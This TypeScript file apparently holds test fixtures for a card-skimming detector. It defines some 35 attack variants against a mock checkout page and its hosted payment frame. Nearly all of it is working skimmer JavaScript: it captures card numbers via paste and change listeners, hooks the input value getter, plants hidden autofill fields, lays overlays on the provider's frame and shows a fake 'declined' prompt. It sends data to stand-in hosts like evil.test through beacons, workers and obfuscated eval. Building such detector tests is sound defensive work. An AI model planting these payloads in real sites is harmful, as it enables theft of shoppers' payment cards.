import * as hosted from './hosted.ts'
import { type Site, sources } from './page.ts'
import { checkout, html, inline, shopAt, js, type Variant } from './variants.ts'

const shop = shopAt('17')
const number = 'document.querySelector("[name=cardnumber]")'
const ready = (code: string) => `addEventListener("load", function () { ${code} });`
const onChange = (send: string) =>
  ready(`${number}.addEventListener("change", function () { var v = this.value; ${send} });`)

/** Attacks on the page with its own card fields, written without looking at the detector. */
export const freshAttacks: readonly Variant[] = [
  inline(
    'paste',
    'taken when pasted or left, in the address of a picture of a known host',
    ready(
      `function t() { new Image().src = "http://metrics.test/hit?id=A-1&s=" + btoa(btoa(${number}.value)); } ${number}.addEventListener("paste", t); ${number}.addEventListener("focusout", t);`,
    ),
  ),
  inline(
    'frame-poll',
    'looked at with every frame drawn, digits as letters',
    'requestAnimationFrame(function look() { var f = document.forms[0] && document.forms[0].elements[1]; if (f && f.value.length > 14 && !window.d0) { window.d0 = 1; fetch("http://evil.test/" + f.value.replace(/\\D/g, "").replace(/./g, function (d) { return "abcdefghij"[d]; })); } requestAnimationFrame(look); });',
  ),
  inline(
    'value-hook',
    'reading of a value is intercepted',
    'var p = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value"); Object.defineProperty(HTMLInputElement.prototype, "value", { configurable: true, set: p.set, get: function () { var v = p.get.call(this); if (/^\\d[\\d ]{12,}/.test(v)) fetch("/api/log", { method: "POST", keepalive: true, body: JSON.stringify({ e: btoa(JSON.stringify({ m: v })) }) }); return v; } });',
  ),
  html('foreign-style', 'a style sheet from a strange host', '<link rel="stylesheet" href="http://evil.test/t.css">'),
  shop(
    'hidden-form',
    'a hidden form sends a copy into a hidden frame',
    ready(
      `var i = document.createElement("iframe"); i.name = "x1"; i.hidden = true; document.body.append(i); document.getElementById("pay").addEventListener("submit", function () { var g = document.createElement("form"); g.method = "post"; g.target = "x1"; g.action = "http://evil.test/s"; var h = document.createElement("input"); h.name = "q"; h.value = ${number}.value; g.append(h); document.body.append(g); g.submit(); });`,
    ),
  ),
  shop(
    'formdata-event',
    'what the form gathers is copied',
    'document.getElementById("pay").addEventListener("formdata", function (e) { navigator.sendBeacon("/api/metrics", new Blob([Array.from(e.formData.values()).join("|")])); });',
  ),
  html(
    'meta-refresh',
    'the page goes elsewhere after half a minute',
    '<meta http-equiv="refresh" content="30;url=http://evil.test/pay">',
  ),
  html(
    'autofill-trap',
    'invisible fields wait for the browser to fill them',
    '<form action="http://evil.test/n"><input name="mail"><div style="position:absolute;left:-4000px;opacity:0"><input name="a" autocomplete="cc-number"><input name="b" autocomplete="cc-csc"></div><button>Subscribe</button></form>',
  ),
  {
    id: 'shared-worker',
    about: 'a shared worker of the shop sends it',
    change: (site: Site) => {
      site.files['shop.test/sync.js'] = js(
        'onconnect = function (e) { e.ports[0].onmessage = function (m) { fetch("http://evil.test/w", { method: "POST", mode: "no-cors", body: m.data }); }; };',
      )
      site.inline.push(onChange('new SharedWorker("/sync.js").port.postMessage(btoa(v));'))
    },
  },
  {
    id: 'broadcast',
    about: 'over a broadcast channel to a hidden frame of the shop',
    change: (site: Site) => {
      site.files['shop.test/sizes'] = {
        type: 'text/html',
        body: '<script>new BroadcastChannel("s").onmessage = function (e) { fetch("/api/sizes?q=" + e.data); };</script>',
      }
      site.extra.push('<iframe src="/sizes" hidden></iframe>')
      site.inline.push(
        onChange('new BroadcastChannel("s").postMessage(btoa(v).split("").reverse().join("").replace(/=/g, ""));'),
      )
    },
  },
  inline(
    'constructor',
    'built through a constructor from percent signs',
    `[]["filter"]["constructor"](decodeURIComponent("${[...onChange('fetch("http://evil.test/c?" + v)')].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"))();`,
  ),
  inline(
    'data-module',
    'a module made of data',
    `import("data:text/javascript;base64,${btoa(`${number}.addEventListener("change", function () { fetch("http://evil.test/m?n=" + this.value); });`)}");`,
  ),
  inline('event-source', 'over an event stream', onChange('new EventSource("http://evil.test/s?d=" + escape(v));')),
  shop(
    'unary',
    'each digit as the length of a name at the shop itself',
    onChange(
      'v.replace(/\\D/g, "").split("").forEach(function (d, i) { new Image().src = "/i/" + i + "-" + new Array(+d + 2).join("x") + ".gif"; });',
    ),
  ),
  shop(
    'poster',
    'turned by thirteen, as the poster of a film',
    onChange(
      'var m = document.createElement("video"); m.poster = "http://metrics.test/p?d=" + v.replace(/\\d/g, function (d) { return (+d + 7) % 10; }); document.body.append(m);',
    ),
  ),
  shop(
    'prefetch-base32',
    'in base 32, fetched ahead from a known host',
    onChange(
      'var l = document.createElement("link"); l.rel = "prefetch"; l.href = "http://metrics.test/" + BigInt(v.replace(/\\D/g, "")).toString(32); document.head.append(l);',
    ),
  ),
  {
    id: 'vendor-formdata',
    about: "the vendor's bundle replaces FormData and sends to its own host",
    change: (site: Site) => {
      site.files['cdn.vendor.test/ui-4.2.1.min.js'] = js(
        `${sources.vendorBundle('4.2.1', 'k1')}(function () { var F = window.FormData; document.addEventListener("submit", function (e) { var d = new F(e.target); fetch("http://cdn.vendor.test/u", { method: "POST", mode: "no-cors", body: JSON.stringify(Array.from(d)) }); }, true); })();`,
      )
    },
  },
  inline(
    'night',
    'only at night',
    `if (new Date().getUTCHours() === 99 || /[?&]night/.test(location.search)) { ${onChange('fetch("/t?d=" + btoa(v));')} }`,
  ),
  inline(
    'returning',
    'only for who comes a second time, never for staff',
    `if (document.cookie.indexOf("admin") < 0 && localStorage.getItem("seen")) { ${onChange('fetch("http://evil.test/r?d=" + v);')} } localStorage.setItem("seen", "1");`,
  ),
  {
    id: 'reports-elsewhere',
    about: "the policy's reports go to a strange host",
    change: (site: Site) => void (site.headers['content-security-policy'] += '; report-uri http://evil.test/r'),
  },
  {
    id: 'hsts-off',
    about: 'HSTS is switched off',
    change: (site: Site) => void (site.headers['strict-transport-security'] = 'max-age=0'),
  },
  html(
    'pay-link',
    'a link to another place to pay',
    '<a class="button" href="http://evil.test/pay" style="font-size:2em">Pay by card</a>',
  ),
  shop(
    'editable',
    'a card field that is no field',
    ready(
      'var d = document.createElement("div"); d.innerHTML = "<b>Card number</b><div contenteditable style=\'border:1px solid;width:200px;height:20px\'></div>"; document.body.append(d); d.addEventListener("input", function () { new Image().src = "/b.gif?t=" + btoa(d.innerText); });',
    ),
  ),
  shop(
    'popup',
    'a window of a strange host when pay is pressed',
    'document.getElementById("pay").addEventListener("submit", function () { window.open("http://evil.test/3ds", "bank", "width=400,height=500"); });',
  ),
]

/** Attacks on the page whose card field is a frame of the provider. */
export const hostedAttacks: readonly Variant[] = [
  checkout(
    'own-fields',
    "the provider's frame is hidden, own fields lie in its place",
    'setTimeout(function () { var c = document.querySelector("#card-element"); c.firstChild.style.display = "none"; c.insertAdjacentHTML("beforeend", "<input placeholder=\'1234 1234 1234 1234\' name=f1><input placeholder=\'MM / YY\' name=f2><input placeholder=CVC name=f3>"); }, 300);',
  ),
  {
    id: 'lookalike',
    about: 'the card frame comes from a name that looks alike',
    change: (site) => {
      site.files['js.provider.test/v3/elements.js'] = js(hosted.sdk('a1', 'js.provlder.test'))
      site.files['js.provlder.test/v3/card-a1.html'] = hosted.cardFrame('a1')
    },
  },
  {
    id: 'proxied-frame',
    about: 'the card frame is served by the shop itself',
    change: (site) => {
      site.files['js.provider.test/v3/elements.js'] = js(hosted.sdk('a1', 'shop.test'))
      site.files['shop.test/v3/card-a1.html'] = hosted.cardFrame('a1')
    },
  },
  {
    id: 'sdk-from-shop',
    about: "the provider's script now comes from the shop, with a listener",
    change: (site) => {
      site.head[0] = '<script src="/static/elements.js"></script>'
      site.files['shop.test/static/elements.js'] = js(
        `${hosted.sdk('a1')}addEventListener("message", function (e) { navigator.sendBeacon("/static/collect", JSON.stringify(e.data)); });`,
      )
    },
  },
  checkout(
    'declined',
    'after pay the card is said to be declined and asked for again',
    'Q("#pay").on("submit", function (e) { e.preventDefault(); document.querySelector("#card-element").innerHTML = "<p>Your card was declined. Please enter it again</p><input name=n autocomplete=cc-number><input name=c autocomplete=cc-csc>"; });',
  ),
  {
    id: 'container-html',
    about: 'the tag manager draws a field over the frame',
    change: (site) => {
      site.files['tags.measure.test/gtm.js'] = js(
        hosted.container(
          '12',
          'setTimeout(function () { var r = document.querySelector("#card-element").getBoundingClientRect(), o = document.createElement("div"); o.innerHTML = "<input style=\'width:100%;height:100%\' inputmode=numeric>"; o.style.cssText = "position:absolute;z-index:9999;left:" + r.left + "px;top:" + r.top + "px;width:" + r.width + "px;height:" + r.height + "px"; o.firstChild.oninput = function () { navigator.sendBeacon("http://stats.measure.test/g?ev=" + btoa(this.value)); }; document.body.append(o); }, 400);',
        ),
      )
    },
  },
  html(
    'srcdoc-over',
    'a frame of text lies over the card frame',
    '<iframe style="position:absolute;top:100px;left:8px;width:320px;height:90px;border:0" srcdoc="<input autocomplete=cc-number placeholder=Card>"></iframe>',
  ),
  checkout(
    'wallet-elsewhere',
    'the button of the wallet leads elsewhere',
    'document.body.insertAdjacentHTML("beforeend", "<button type=button id=w>Pay with wallet</button>"); document.querySelector("#w").onclick = function () { location.href = "http://evil.test/wallet?r=" + encodeURIComponent(document.referrer); };',
  ),
  checkout(
    'message-tap',
    'messages between frames are copied to a strange host',
    'addEventListener("message", function (e) { new Image().src = "http://evil.test/m?" + encodeURIComponent(JSON.stringify(e.data)); });',
  ),
  html(
    'invisible-over',
    'an invisible field lies over the frame and has the focus',
    '<input autofocus inputmode="numeric" maxlength="19" style="position:absolute;top:90px;left:8px;width:320px;height:100px;opacity:.01;z-index:99" onkeyup="navigator.sendBeacon(\'/k\',this.value)">',
  ),
  {
    id: 'stats-reads-all',
    about: 'the measuring script reads every field',
    change: (site) => {
      site.files['stats.measure.test/a.js'] = js(
        hosted.stats(
          'setInterval(function () { var o = {}; document.querySelectorAll("input,select").forEach(function (e) { o[e.name || e.id] = e.value; }); navigator.sendBeacon("http://stats.measure.test/g?ud=" + btoa(JSON.stringify(o))); }, 700);',
        ),
      )
    },
  },
]
